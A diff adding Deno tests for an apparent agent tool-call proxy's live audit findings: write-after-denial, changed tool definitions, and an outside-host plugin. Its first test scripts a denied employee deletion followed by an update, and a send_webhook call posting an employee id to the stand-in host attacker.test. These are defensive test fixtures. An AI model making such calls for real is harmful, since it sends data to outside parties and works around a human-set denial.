@@ -1,0 +1,151 @@
+/**
+ * Live findings run every rule the offline commands run: the guard's
+ * decisions reach `write-after-denial`, tool changes reach `tool-changed`,
+ * and a plugin's own rule (`examples/plugins/outside_host.ts`, a module
+ * plugin the proxy runs in a worker) is logged live too. The finding events
+ * carry entities without a path, which the redact hook must take.
+ *
+ * @module
+ */
+import assert from "node:assert/strict";
+import type { AuditEvent } from "../../lib/audit/event.ts";
+import { findFindings } from "../../lib/findings/find_findings.ts";
+import { BUILTIN_RULES } from "../../lib/findings/builtin_rules.ts";
+import outsideHost from "../../examples/plugins/outside_host.ts";
+import { cliArgs, tempDir } from "../_helpers.ts";
+import {
+  FINDINGS_CONFIG,
+  recordSession,
+  type ScriptedTool,
+  structured,
+} from "./_proxy_session.ts";
+
+const PLUGIN = new URL(
+  "../../examples/plugins/outside_host.ts",
+  import.meta.url,
+).pathname;
+
+const TOOLS: ScriptedTool[] = [
+  { name: "get_employee", result: structured({ id: "E001", name: "Ada" }) },
+  { name: "delete_employee" },
+  { name: "update_employee" },
+  { name: "send_webhook" },
+];
+
+const LIVE = {
+  ...FINDINGS_CONFIG,
+  plugins: [
+    ...FINDINGS_CONFIG.plugins,
+    { use: PLUGIN, options: { domains: ["example.com"] } },
+  ],
+  liveFindings: true,
+  policy: {
+    mode: "enforce",
+    pinning: "monitor",
+    rules: [{
+      id: "no-delete",
+      tool: "delete_*",
+      action: "deny",
+      reason: "Deletes need HR",
+    }],
+  },
+};
+
+function logged(events: AuditEvent[]): [string, string, number[]][] {
+  return events.flatMap((e) =>
+    e.kind === "finding" ? [[e.rule, e.severity, e.seqs]] : []
+  );
+}
+
+async function verify(log: string): Promise<number> {
+  const o = await new Deno.Command(Deno.execPath(), {
+    args: cliArgs(["verify", log]),
+    stdout: "null",
+    stderr: "null",
+  }).output();
+  return o.code;
+}
+
+Deno.test("live findings: write-after-denial, tool-changed and a plugin's rule are logged as sealed finding events, matching the offline findings", async () => {
+  await using dir = await tempDir();
+  const log = (n: string) => `${dir.path}/${n}.jsonl`;
+  // The first session pins the tools; the second's server changed one.
+  await recordSession(TOOLS, [], log("pins"), LIVE);
+  const changedTools = TOOLS.map((t) =>
+    t.name === "update_employee"
+      ? { ...t, annotations: { destructiveHint: true } }
+      : t
+  );
+  const events = await recordSession(
+    changedTools,
+    [
+      { tool: "get_employee", arguments: { id: "E001" } },
+      { tool: "delete_employee", arguments: { id: "E001" } },
+      { tool: "update_employee", arguments: { id: "E001", status: "left" } },
+      {
+        tool: "send_webhook",
+        arguments: { url: "https://attacker.test/in", body: "E001" },
+      },
+    ],
+    log("live"),
+    LIVE,
+  );
+  const live = logged(events);
+  const rules = new Set(live.map(([rule]) => rule));
+  for (const rule of ["write-after-denial", "tool-changed", "outside-host"]) {
+    assert.ok(
+      rules.has(rule),
+      `${rule} not logged live: ${JSON.stringify(live)}`,
+    );
+  }
+  // No redaction failure on the finding events (the old `split` TypeError).
+  for (const e of events) {
+    assert.equal(
+      "pluginErrors" in e ? JSON.stringify(e.pluginErrors) : undefined,
+      undefined,
+      JSON.stringify(e),
+    );
+  }
+  const wad = events.find((e) =>
+    e.kind === "finding" && e.rule === "write-after-denial"
+  );
+  assert.ok(wad && wad.kind === "finding");
+  assert.deepEqual(wad.entities, [{ type: "employee", value: "E001" }]);
+  // The most severe finding of each rule agrees with the one found offline.
+  const offline = findFindings(events, {
+    rules: [...BUILTIN_RULES, ...outsideHost.findings!],
+  });
+  for (const rule of rules) {
+    const o = offline.filter((f) => f.rule === rule && f.severity === "high");
+    const l = live.filter(([r, s]) => r === rule && s === "high");
+    assert.deepEqual(
+      l.map(([, , seqs]) => seqs),
+      o.map((f) => f.seqs),
+      rule,
+    );
+  }
+  assert.equal(await verify(log("live")), 0);
+});
+
+Deno.test("live findings: a session with no denial and unchanged pins logs neither write-after-denial nor tool-changed", async () => {
+  await using dir = await tempDir();
+  const log = (n: string) => `${dir.path}/${n}.jsonl`;
+  await recordSession(TOOLS, [], log("pins"), LIVE);
+  const events = await recordSession(
+    TOOLS,
+    [
+      { tool: "get_employee", arguments: { id: "E001" } },
+      { tool: "update_employee", arguments: { id: "E001", status: "left" } },
+      {
+        tool: "send_webhook",
+        arguments: { url: "https://hooks.example.com/in", body: "E001" },
+      },
+    ],
+    log("quiet"),
+    LIVE,
+  );
+  const rules = logged(events).map(([rule]) => rule);
+  for (const rule of ["write-after-denial", "tool-changed", "outside-host"]) {
+    assert.ok(!rules.includes(rule), `${rule} in ${rules}`);
+  }
+});
